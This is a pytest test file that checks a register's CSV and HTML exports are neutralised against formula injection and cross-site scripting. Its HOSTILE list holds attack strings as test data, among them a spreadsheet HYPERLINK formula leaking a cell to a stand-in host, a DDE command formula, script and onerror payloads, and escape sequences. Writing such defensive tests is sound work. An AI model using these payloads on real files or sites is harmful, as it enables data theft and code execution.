"""The register as a spreadsheet and as a page: nothing in it runs, nothing is fetched, nothing is lost."""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agency_client.ports.vault import RegisterLine, SharedSection
from agency_client.record.plain import plain
from agency_client.record.register_csv import register_csv
from agency_client.record.register_page import register_page
from agency_client.record.register_table import COLUMNS, Party, RegisterEntry, kind_in_words, rows
from agency_client.record.shipped import shipped_catalogue
from agency_client.record.spreadsheet import safe_cell
from phoenix_protocol.identifiers import Seconds
from tests.client.record_values import NOW

HOSTILE = (
    '=HYPERLINK("http://evil.example?leak="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "  =1+1",
    "\t=1+1",
    "\r\n=1+1",
    "\uff1d1+1",
    '"; =1+1',
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "&lt;script&gt;",
    "\u202egnp.exe",
    "\x1b[2J\x07",
    "a\x00b",
    "]]><!--",
)


def entry(text: str, **more: object) -> RegisterEntry:
    line = RegisterLine(
        kind="sent",
        time=NOW,
        parties=(text,),
        sections=(SharedSection(title=text, readers=(text,), facts=1, opinions=2, files=1),),
        facts={
            **dict.fromkeys(
                ("purpose", "thread", "people", "decided_by", "basis", "reasons", "withheld"),
                (text,),
            ),
            "roles": ("child",),
            "outcome": ("share_part",),
            "known_at": ("2026-11-19",),
        },
    )
    values: dict[str, object] = {
        "line": line,
        "reference": "ab" * 16,
        "parties": (Party(name=text, state="committed"),),
        "owed": (text,),
        "answered": (text,),
        **more,
    }
    return RegisterEntry(**values)  # type: ignore[arg-type]


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


class Seen(HTMLParser):
    """Every tag and attribute of a page, and the texts between them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


def page(text: str) -> tuple[str, Seen]:
    made = register_page([entry(text)], shipped_catalogue(), {"Subject": text}).decode("utf-8")
    seen = Seen()
    seen.feed(made)
    return made, seen


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_a_formula_or_breaks_a_row(text: str) -> None:
    data = register_csv([entry(text)], shipped_catalogue())
    read = read_back(data)
    assert len(read) == 2
    assert all(len(row) == len(COLUMNS) for row in read)
    for cell in (cell for row in read for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", " ", "\uff1d"))
        assert "\n" not in cell
        assert cell == plain(cell)


def test_every_cell_is_quoted_and_the_mark_comes_first() -> None:
    data = register_csv([entry('says "no", twice')], shipped_catalogue())
    assert data.startswith(b'\xef\xbb\xbf"When (UTC)",')
    assert data.endswith(b'"\r\n')
    text = data.decode("utf-8-sig")
    assert all(line.startswith('"') and line.endswith('"') for line in text.split("\r\n")[:-1])
    assert read_back(data)[1][8] == 'says "no", twice'


def test_ordinary_words_stay_as_they_are() -> None:
    ordinary = "Zoë Åkesson, 15; 3-4 days = long"
    assert safe_cell(ordinary) == ordinary
    assert safe_cell("01632 960 001") == "01632 960 001"
    assert safe_cell("") == ""


@given(st.text(max_size=60))
def test_a_cell_is_safe_whatever_the_text(text: str) -> None:
    cell = safe_cell(text)
    assert cell[:1] not in set("=+-@\t\r\n \uff1d\uff0b\uff0d\uff20")
    assert cell == plain(cell)
    assert read_back(register_csv([entry(text)], shipped_catalogue()))[1][8] == cell


@pytest.mark.parametrize("text", HOSTILE)
def test_a_page_holds_no_tag_but_its_own(text: str) -> None:
    _, calm = page("nothing special")
    made, seen = page(text)
    assert seen.tags == calm.tags
    assert [name for name, _ in seen.attributes] == [name for name, _ in calm.attributes]
    assert "script" not in seen.tags
    assert plain(text).strip() in seen.text
    assert "\u202e" not in made
    assert "\x1b" not in made


def test_a_page_stands_alone_and_says_so_to_the_browser() -> None:
    made, seen = page("x")
    assert {"script", "link", "img", "iframe", "object", "form", "a"} & set(seen.tags) == set()
    assert {name for name, _ in seen.attributes} <= {
        "lang",
        "charset",
        "role",
        "aria-label",
        "tabindex",
        "http-equiv",
        "content",
        "name",
        "class",
        "scope",
    }
    policy = dict(seen.attributes)["content"] or ""
    assert "http" not in made.replace("http-equiv", "")
    policies = [value for name, value in seen.attributes if name == "content"]
    assert policies[0] is not None
    assert policies[0].startswith("default-src 'none'; style-src 'sha256-")
    assert policy
    assert "url(" not in made
    assert "@import" not in made


def test_a_page_leaves_out_columns_in_which_nothing_stands() -> None:
    bare = RegisterEntry(
        line=RegisterLine(kind="breach", time=Seconds(0)), reference="r1", parties=()
    )
    made = register_page([bare], shipped_catalogue(), {}).decode()
    assert "By what right" not in made
    assert "1970-01-01 00:00" in made
    assert "0 entries" in register_page([], shipped_catalogue(), {}).decode()


def test_who_asked_and_who_said_it_are_not_whom_it_was_shared_with() -> None:
    facts = {"asked_by": ("head@fennick-academy",), "said_by": ("mash@ardenfold-police",)}
    line = RegisterLine(kind="decision", time=Seconds(0), facts=facts)
    (row,) = rows([RegisterEntry(line=line, reference="r1", parties=())], shipped_catalogue())
    cells = dict(zip([heading for heading, _ in COLUMNS], row, strict=True))
    assert cells["With whom"] == ""
    assert cells["Asked by"] == "head@fennick-academy"
    assert cells["Said by"] == "mash@ardenfold-police"


def test_words_stand_for_codes() -> None:
    (row,) = rows([entry("Jordan T")], shipped_catalogue())
    cells = dict(zip([heading for heading, _ in COLUMNS], row, strict=True))
    assert cells["What happened"] == "Shared"
    assert cells["With whom"] == "Jordan T (committed)"
    assert cells["About whom"] == "Jordan T (child)"
    assert cells["What"] == "Jordan T (1 fact, 2 opinions, 1 file), to Jordan T"
    assert cells["Decision"] == "Share part of it"
    assert kind_in_words("notice_answer") == "Notice answer"


def test_how_long_something_was_known_is_worked_out() -> None:
    assert entry("x").known_days == 3
    later = RegisterLine(kind="sent", time=NOW, facts={"known_at": ("2030",)})
    assert entry("x", line=later).known_days is None
    open_ = RegisterLine(kind="sent", time=NOW, facts={"known_at": ("not known: lost",)})
    assert entry("x", line=open_).known_days is None
